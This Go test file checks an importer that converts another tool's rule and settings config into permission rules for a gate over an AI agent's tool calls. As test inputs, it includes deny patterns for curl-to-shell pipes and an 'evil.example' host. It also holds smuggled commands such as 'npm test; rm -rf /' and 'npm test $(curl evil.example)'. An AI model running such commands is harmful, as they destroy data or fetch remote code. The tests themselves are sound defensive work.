package importer_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"cardea.dev"
	"cardea.dev/internal/base/diagnostic"
	"cardea.dev/internal/base/document/yamledit"
	"cardea.dev/internal/command/knowledge"
	"cardea.dev/internal/config/importer"
	"cardea.dev/internal/config/settings"
	"cardea.dev/internal/decide/rules"
	"cardea.dev/internal/harness"
	"cardea.dev/internal/harness/call"
)

// decider returns a function that evaluates an imported rule file.
func decider(t *testing.T, got importer.Imported) *rules.Decider {
	t.Helper()
	list, problems := rules.Parse("f.yaml", []byte(rulesOf(got)), rules.Origin{Scope: cardea.ScopeUser, Tool: harness.ToolWord})
	for _, p := range problems {
		if p.Code != diagnostic.CodeMissing || rulesOf(got) != "" {
			t.Errorf("what was imported has a problem: %v\n%s", p, rulesOf(got))
		}
	}
	return rules.New(rules.ListOf(list), rules.Options{Home: "/home/user"})
}

// effect returns the strictest opinion on a call. A call of several parts is allowed only
// if each part is.
func effect(t *testing.T, d *rules.Decider, name string, input map[string]any) cardea.Effect {
	t.Helper()
	_, known := harness.Tool(name)
	ev := &cardea.Event{Kind: cardea.PreToolUse, Mode: cardea.ModeDefault, Cwd: "/home/user/p", Project: "/home/user/p",
		Call: &cardea.Call{Tool: name, Name: name, Known: known, Input: input}}
	ev = call.Analyse(ev, knowledge.System{Home: "/home/user"})
	gate := &cardea.Gate{Placements: []cardea.Placement{{Decider: d}}}
	return gate.Decide(context.Background(), ev).Effect
}

// rulesOf returns the imported rule files as one, "" for none.
func rulesOf(got importer.Imported) (text string) {
	for _, f := range got.Files {
		if _, list, is := strings.Cut(f.Text, "\nrules:\n"); is && text != "" {
			text += list
		} else if is {
			text = f.Text
		}
	}
	return text
}

// settingsOf returns the imported settings as a file.
func settingsOf(t *testing.T, got importer.Imported) string {
	t.Helper()
	text := ""
	for _, s := range got.Settings {
		var err error
		if s.Items != nil {
			text, _, err = yamledit.Append(text, s.Path, s.Items)
		} else {
			text, _, err = yamledit.Set(text, s.Path, s.Value)
		}
		if err != nil {
			t.Error(err)
		}
	}
	if f := settings.Parse("cardea.yaml", cardea.ScopeUser, []byte(text)); diagnostic.HasError(f.Problems) {
		t.Errorf("%v in\n%s", f.Problems, text)
	}
	return text
}

// tableOf returns the table as text.
func tableOf(got importer.Imported) string {
	var b strings.Builder
	for _, r := range got.Table {
		fmt.Fprintf(&b, "%s:%d: %s: %s: lost %v: %s\n", r.File, r.Line, r.What, r.Outcome, r.Lost(), r.How)
	}
	return b.String()
}

func bouncer(t *testing.T, custom string) importer.Imported {
	t.Helper()
	return importer.Bouncer("config.json", []byte(`{"llmFallback": {"enabled": false}, "customRules": [`+custom+`]}`), importer.BouncerOptions{})
}

func TestRulesThatTighten(t *testing.T) {
	d := decider(t, bouncer(t, `
		{"name": "deploy", "toolMatch": "bash", "pattern": "^deploy\\b", "action": "deny", "reason": "it's: \"theirs\"\n"},
		{"Name": "pipe", "ToolMatch": "Bash", "Pattern": "curl.*\\|.*sh", "Action": "Block"},
		{"name": "vendor", "toolMatch": "write|edit", "pattern": "^vendor/", "action": "ask"},
		{"name": "note", "toolMatch": "NotebookEdit", "pattern": "secret", "action": "ask"},
		{"name": "hosts", "toolMatch": "web_fetch", "pattern": "evil\\.example", "action": "deny"},
		{"name": "query", "toolMatch": "WebSearch", "pattern": "evil", "action": "deny"},
		{"name": "find", "toolMatch": "Grep", "pattern": "/etc", "action": "ask"},
		{"name": "mcp", "toolMatch": "mcp__db__.*", "pattern": "drop", "action": "deny"},
		{"name": "pw", "toolMatch": "pwsh", "pattern": "Remove-Item", "action": "deny"},
		{"name": "built", "toolMatch": "apply_patch", "pattern": "dist/", "action": "deny"},
		{"name": "top", "toolMatch": "edit", "pattern": "^top/|/x$", "action": "deny"},
		{"name": "all", "toolMatch": "*", "pattern": "forbidden", "action": "deny"}`))
	patch := func(header string) map[string]any {
		return map[string]any{"input": "*** Begin Patch\n" + header + "\n*** End Patch\n"}
	}
	for _, c := range []struct {
		tool  string
		input map[string]any
		want  cardea.Effect
	}{
		{"Bash", map[string]any{"command": "deploy now"}, cardea.Deny},
		{"Bash", map[string]any{"command": "cd x && timeout 5 deploy"}, cardea.Deny}, // Bouncer's ^ missed it
		{"Bash", map[string]any{"command": "echo deploy"}, cardea.Abstain},
		{"Bash", map[string]any{"command": "curl x | tee y | sh"}, cardea.Deny}, // no single part matches
		{"Write", map[string]any{"file_path": "vendor/a.go", "content": "x"}, cardea.Ask},
		{"Edit", map[string]any{"file_path": "vendor/a.go", "old_string": "x", "new_string": "y"}, cardea.Ask},
		{"Write", map[string]any{"file_path": "src/vendor", "content": "x"}, cardea.Abstain},
		{"NotebookEdit", map[string]any{"notebook_path": "/p/secret.ipynb", "new_source": "x"}, cardea.Ask},
		{"WebFetch", map[string]any{"url": "https://evil.example/x", "prompt": "x"}, cardea.Deny},
		{"WebSearch", map[string]any{"query": "EVIL things"}, cardea.Deny},
		{"Grep", map[string]any{"pattern": "x", "path": "/etc"}, cardea.Ask},
		{"mcp__db__run", map[string]any{"query": "drop table"}, cardea.Deny},
		{"mcp__other__run", map[string]any{"query": "drop table"}, cardea.Abstain},
		{"Read", map[string]any{"file_path": "/p/forbidden.txt"}, cardea.Deny},
		{"PowerShell", map[string]any{"command": "Remove-Item a"}, cardea.Deny},
		{"Edit", map[string]any{"file_path": "/p/dist/a", "old_string": "x", "new_string": "y"}, cardea.Deny},
		{"apply_patch", patch("*** Add File: dist/a\n+x"), cardea.Deny},
		{"apply_patch", patch("*** Add File: src/a\n+dist/"), cardea.Abstain}, // Bouncer looks at paths
		{"apply_patch", patch("*** Update File: top/a\n@@\n-x\n+y"), cardea.Deny},
		{"apply_patch", patch("*** Delete File: src/x"), cardea.Deny},
		{"apply_patch", patch("*** Add File: src/top/y\n+x"), cardea.Abstain},
	} {
		if got := effect(t, d, c.tool, c.input); got != c.want {
			t.Errorf("%s %v: %s, want %s", c.tool, c.input, got, c.want)
		}
	}
}

// TestRulesThatAllow checks that an unanchored allow expression of Bouncer does not allow
// more than a whole command.
func TestRulesThatAllow(t *testing.T) {
	got := bouncer(t, `
		{"name": "tests", "toolMatch": "Bash", "pattern": "npm test( --watch)?|make", "action": "allow"},
		{"name": "docs", "toolMatch": "WebFetch", "pattern": "https://docs\\.example/.*", "action": "allow"}`)
	d := decider(t, got)
	for command, want := range map[string]cardea.Effect{
		"npm test":                      cardea.Allow,
		"npm test --watch":              cardea.Allow,
		"npm test && make":              cardea.Allow,
		"npm test; rm -rf /":            cardea.Abstain,
		"npm test\nrm -rf /":            cardea.Abstain,
		"rm -rf / # npm test":           cardea.Abstain,
		"make --eval=x":                 cardea.Abstain,
		"makeevil":                      cardea.Abstain,
		"xmake":                         cardea.Abstain,
		"LD_PRELOAD=/x npm test":        cardea.Abstain,
		"npm test $(curl evil.example)": cardea.Abstain,
		"npm test > Makefile":           cardea.Abstain,
		"sudo npm test":                 cardea.Abstain,
	} {
		if e := effect(t, d, "Bash", map[string]any{"command": command}); e != want {
			t.Errorf("%q: %s, want %s", command, e, want)
		}
	}
	for url, want := range map[string]cardea.Effect{
		"https://docs.example/x":                      cardea.Allow,
		"https://evil.example/?https://docs.example/": cardea.Abstain,
		"https://docs.example.evil.example/":          cardea.Abstain,
	} {
		if e := effect(t, d, "WebFetch", map[string]any{"url": url, "prompt": "x"}); e != want {
			t.Errorf("%q: %s, want %s", url, e, want)
		}
	}
	if table := tableOf(got); strings.Count(table, "its pattern must match") != 2 {
		t.Errorf("not every rule that allows is reported: %v", table)
	}
}

// TestNothingIsLeftOutInSilence checks that each entry is reported with its place, and that
// the rule exists as given. A lost protection is a loss.
func TestNothingIsLeftOutInSilence(t *testing.T) {
	for rule, want := range map[string]struct {
		count int
		told  string
		lost  bool
	}{
		`{"name": "a", "toolMatch": "bash", "pattern": "(x(?!y)|a)*y", "action": "deny"}`:             {0, "lookahead", true},
		`{"name": "a", "toolMatch": "bash", "pattern": "(x(?!y)|a)*y", "action": "allow"}`:            {0, "lookahead", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "(?>x+)y\\Z", "action": "deny"}`:               {1, "taken over", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "(?>x+)y", "action": "allow"}`:                 {0, "does not know this group", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "x(?!y)", "action": "deny"}`:                   {1, "without lookahead", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "x", "action": "explode"}`:                     {0, `"explode" is no action`, true},
		`{"name": "a", "toolMatch": "bash", "action": "deny"}`:                                        {0, "no pattern", true},
		`{"name": "a", "toolMatch": "ba[s]h", "pattern": "x", "action": "deny"}`:                      {0, "cannot be taken over", true},
		`{"name": "a", "toolMatch": "bash", "pattern": "x", "action": "deny", "enabled": false}`:      {0, "switched off", false},
		`{"name": "a", "toolMatch": "write", "pattern": "^src/.*", "action": "allow"}`:                {0, "would allow more", false},
		`{"name": "a", "toolMatch": "*", "pattern": ".*", "action": "allow"}`:                         {0, "would allow more", false},
		`{"name": "a", "toolMatch": "read", "pattern": "x", "action": "deny"}`:                        {1, "did nothing on Claude Code", false},
		`{"name": "a", "toolMatch": "mcp__x__y", "pattern": "x", "action": "deny"}`:                   {1, "drops rules for MCP", false},
		`{"name": "a", "toolMatch": "Frobnicate", "pattern": "x", "action": "deny"}`:                  {1, "does not know the tool", true},
		`{"name": "a", "toolMatch": "bash|Frobnicate", "pattern": "x", "action": "deny"}`:             {1, "may never speak", true},
		`{"name": "a", "toolMatch": "web*", "pattern": "x", "action": "deny"}`:                        {1, "does not know the tool", true},
		`{"name": "a", "toolMatch": "mcp.*", "pattern": "x", "action": "deny"}`:                       {1, "rule bouncer-a", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "x", "action": "deny", "colour": 1}`:           {1, `unknown key "colour"`, false},
		`{"name": "a", "toolMatch": "bash", "pattern": "x", "action": null, "reason": null}`:          {1, "rule bouncer-a", false},
		`{"name": "a", "toolMatch": "bash", "pattern": "x", "action": "deny"}, {"name": "b", "x": 1}`: {1, "", true},
	} {
		got := bouncer(t, rule)
		decider(t, got)
		table := tableOf(got)
		if n := strings.Count(rulesOf(got), "- id: "); n != want.count {
			t.Errorf("%s: %d rules, want %d", rule, n, want.count)
		}
		if !strings.Contains(table, want.told) || strings.Contains(table, "lost true") != want.lost {
			t.Errorf("%s: told\n%s", rule, table)
		}
		if strings.Contains(table, "customRules") && strings.Contains(table, ":0: customRules") {
			t.Errorf("%s: a row has no place\n%s", rule, table)
		}
	}
	if got := bouncer(t, `"text"`); !diagnostic.HasError(got.Problems) {
		t.Error("what is no rule is no mistake")
	}
}

func TestIdsAreUnique(t *testing.T) {
	got := bouncer(t, `
		{"name": "No Deploy!", "toolMatch": "bash", "pattern": "a", "action": "deny"},
		{"name": "no-deploy", "toolMatch": "bash", "pattern": "b", "action": "deny"},
		{"name": "", "toolMatch": "bash", "pattern": "c", "action": "deny"},
		{"name": "x\ny: evil", "toolMatch": "bash", "pattern": "d\te'f\u0085", "action": "deny", "reason": "a\u2028b\"\\c\u0001"}`)
	decider(t, got) // a duplicate would be a problem
	for _, id := range []string{"bouncer-no-deploy\n", "bouncer-no-deploy-2\n", "bouncer\n", "bouncer-x-y-evil\n"} {
		if !strings.Contains(rulesOf(got), "- id: "+id) {
			t.Errorf("no %q in\n%s", id, rulesOf(got))
		}
	}
}

func TestSettings(t *testing.T) {
	got := importer.Bouncer("config.json", []byte("\ufeff{\n\t\"Version\": 1, // one\n \"DefaultAction\": \"Deny\",\n"+`
		"RuleGroups": {"Bash": {"Enabled": false}, "git": true, "web": false, "builtins": false, "colours": true,},
		"providerChain": ["anthropic", {"type": "openai", "model": "m: x", "baseUrl": null, "timeoutSeconds": 2, "apiKeyCommand": "op read x", "apiKey": "sk-1"},
			{"name": "ollama", "timeoutSeconds": 3}],
		/* no models */ "llmFallback": {"enabled": false, "maxTokens": 150, "confidenceThreshold": 0.7},
		"Logging": {"File": {"Path": "x"}}}`), importer.BouncerOptions{})
	text := settingsOf(t, got)
	if want := "default:\n  attended: deny\n  unattended: deny\non_error: deny\n"; !strings.Contains(text, want) || !strings.Contains(text, "packs:\n  web: off\n  bash: off\n") {
		t.Errorf("settings:\n%s", text)
	}
	table := tableOf(got)
	for _, want := range []string{
		"no group of this name",
		"keeps the gate shut",
		"judge: {enabled: false, chain",
		"ledger has every verdict",
		"apiKey: left out",
	} {
		if !strings.Contains(table, want) {
			t.Errorf("no %q in\n%s", want, table)
		}
	}
	if strings.Contains(table, "lost true") || len(got.Problems) > 0 {
		t.Errorf("lost: %s %v", table, got.Problems)
	}
	for _, want := range []string{
		"judge:\n  enabled: false\n",
		"    - {type: anthropic}\n    - {type: openai, model: 'm: x', api_key_command: 'op read x', timeout: 2s}\n    - {type: ollama, timeout: 3s}\n",
		"confidence:\n  project: 0.7\n  user: 0.7\n",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	if strings.Contains(text+table, "sk-1") {
		t.Error("a key is shown")
	}
}

func TestDefaultAction(t *testing.T) {
	for _, tt := range []struct {
		action string
		allow  bool
		want   string
	}{
		{"allow", false, ""}, {"allow", true, "default:\n  attended: allow\n  unattended: allow\n"},
		{"ask", false, "default:\n  attended: ask\n  unattended: ask\non_error: deny\n"}, {"deny", true, "default:\n  attended: deny\n  unattended: deny\non_error: deny\n"},
	} {
		got := importer.Bouncer("c.json", []byte(`{"defaultAction": "`+tt.action+`", "llmFallback": {"enabled": false}}`), importer.BouncerOptions{DefaultAllow: tt.allow})
		if text := settingsOf(t, got); text != tt.want || !strings.Contains(tableOf(got), "defaultAction") {
			t.Errorf("%s: %s", tt.action, text)
		}
	}
	if got := importer.Bouncer("c.json", []byte(`{"defaultAction": "explode"}`), importer.BouncerOptions{DefaultAllow: true}); !diagnostic.HasError(got.Problems) {
		t.Error("an unknown action is no mistake")
	}
}

// TestJudge checks that Bouncer's model is on by default, and that its chain is imported in
// order. An entry that Cardea does not support is a loss.
func TestJudge(t *testing.T) {
	for _, tt := range []struct {
		text, want, told string
		lost             bool
	}{
		{`{}`, "judge:\n  enabled: true\n", "with Cardea's own chain", false},
		{`{"llmFallback": {"enabled": true}}`, "judge:\n  enabled: true\n", "with Cardea's own chain", false},
		{`{"llmFallback": {"enabled": false}}`, "", "it was switched off", false},
		{`{"llmFallback": {"maxTokens": 300, "confidenceThreshold": 0.85}}`, "judge:\n  enabled: true\n  chain:\n    - {type: anthropic, max_tokens: 300}\n    - {type: github-models, max_tokens: 300}\n" +
			"    - {type: openai, max_tokens: 300}\n    - {type: ollama, max_tokens: 300}\nconfidence:\n  project: 0.85\n  user: 0.85\n", "llmFallback", false},
		{
			`{"llmFallback": {"providerChain": [{"type": "Ollama", "endpoint": "http://localhost:1234", "timeoutSeconds": 600}, ` +
				`{"type": "ollama", "endpoint": "http://localhost:1234", "timeoutSeconds": 600}]}}`,
			"judge:\n  enabled: true\n  chain:\n    - {type: ollama, endpoint: 'http://localhost:1234', timeout: 30s}\n", "not Bouncer's defaults before them", false},
		{`{"llmFallback": {"providerChain": [{"type": "ollama", "endpoint": "http://gpu.example:11434"}, {"type": "onnx"}, "openai"]}}`, "judge:\n  enabled: true\n  chain:\n    - {type: openai}\n",
			"http is for this machine only", true},
		{`{"llmFallback": {"providerChain": [{"type": "onnx"}]}}`, "", "no provider of its chain is left", true},
	} {
		got := importer.Bouncer("c.json", []byte(tt.text), importer.BouncerOptions{})
		text, table := settingsOf(t, got), tableOf(got)
		if text != tt.want || !strings.Contains(table, tt.told) || strings.Contains(table, "lost true") != tt.lost || len(got.Problems) > 0 {
			t.Errorf("%s:\n%s\n%s%v", tt.text, text, table, got.Problems)
		}
	}
	for _, text := range []string{"1.5", "-1", `"high"`, "NaN"} {
		got := importer.Bouncer("c.json", []byte(`{"llmFallback": {"confidenceThreshold": `+text+`}}`), importer.BouncerOptions{})
		if !diagnostic.HasError(got.Problems) {
			t.Errorf("%s is a confidence", text)
		}
	}
}

func TestBrokenJSON(t *testing.T) {
	for text, at := range map[string]string{
		"":                                    "c.json:1:1",
		"{\n  \"é\": tru }":                   "c.json:2:11",
		"{\"a\": 1} x":                        "c.json:1:",
		"{\"a\": 1} {}":                       "c.json:1:",
		"{\"customRules\": [":                 "c.json:1:",
		"[1]":                                 "c.json:1:1",
		"\"x\"":                               "c.json:1:1",
		"{\"a\": 1,\n \"a\": 2}":              "c.json:2:2",
		"version: 1":                          "c.json:1:1",
		"{\"version\": 2}":                    "c.json:1:13",
		"{\"customRules\": {\"name\": \"\"}}": "c.json:1:17",
	} {
		got := importer.Bouncer("c.json", []byte(text), importer.BouncerOptions{})
		if len(got.Problems) == 0 || !strings.HasPrefix(got.Problems[0].String(), at) || len(got.Files) > 0 {
			t.Errorf("%q: %v, want a problem at %s", text, got.Problems, at)
		}
	}
}

func TestSeal(t *testing.T) {
	file := importer.Seal("/a/b.json", "version: 1\n")
	if !importer.Untouched(file, "/a/b.json") {
		t.Error("a sealed file counts as changed")
	}
	if importer.Untouched(file, "/a/c.json") {
		t.Error("a file from one source may be replaced by another's")
	}
	if again := importer.Seal("/a/c.json", "version: 1\n"); !importer.SameText(file, again) || importer.SameText(file, again+"x") || importer.SameText("", "") {
		t.Error("what is the same is not told from what is not")
	}
	for _, other := range []string{"", "version: 1\n", file + "\n", strings.Replace(file, "1\n", "2\n", 1), strings.Replace(file, "b.json", "c.json", 1), strings.TrimPrefix(file, "#")} {
		if importer.Untouched(other, "/a/b.json") {
			t.Errorf("%q counts as untouched", other)
		}
	}
}

// FuzzBouncer checks that for any file, the output is readable and no rule lacks a pattern.
func FuzzBouncer(f *testing.F) {
	f.Add(`{"customRules": [{"name": "a", "toolMatch": "bash", "pattern": "x'\"", "action": "allow", "reason": "\u0085"}]}`)
	f.Add(`{"customRules": [{"name": "a", "toolMatch": "bash", "pattern": "x", "action": "allow", "reason": "\u0086\uffff"}]}`)
	f.Add(`{"CustomRules":[{"pattern":"0(?!)0"}]}`)
	f.Add(`{"customRules": [{"name": "a", "toolMatch": "mcp__*", "pattern": "(?i)x", "action": "deny"}]}`)
	f.Fuzz(func(t *testing.T, text string) {
		got := importer.Bouncer("c.json", []byte(text), importer.BouncerOptions{})
		if rulesOf(got) != "" {
			decider(t, got)
		}
		settingsOf(t, got)
	})
}
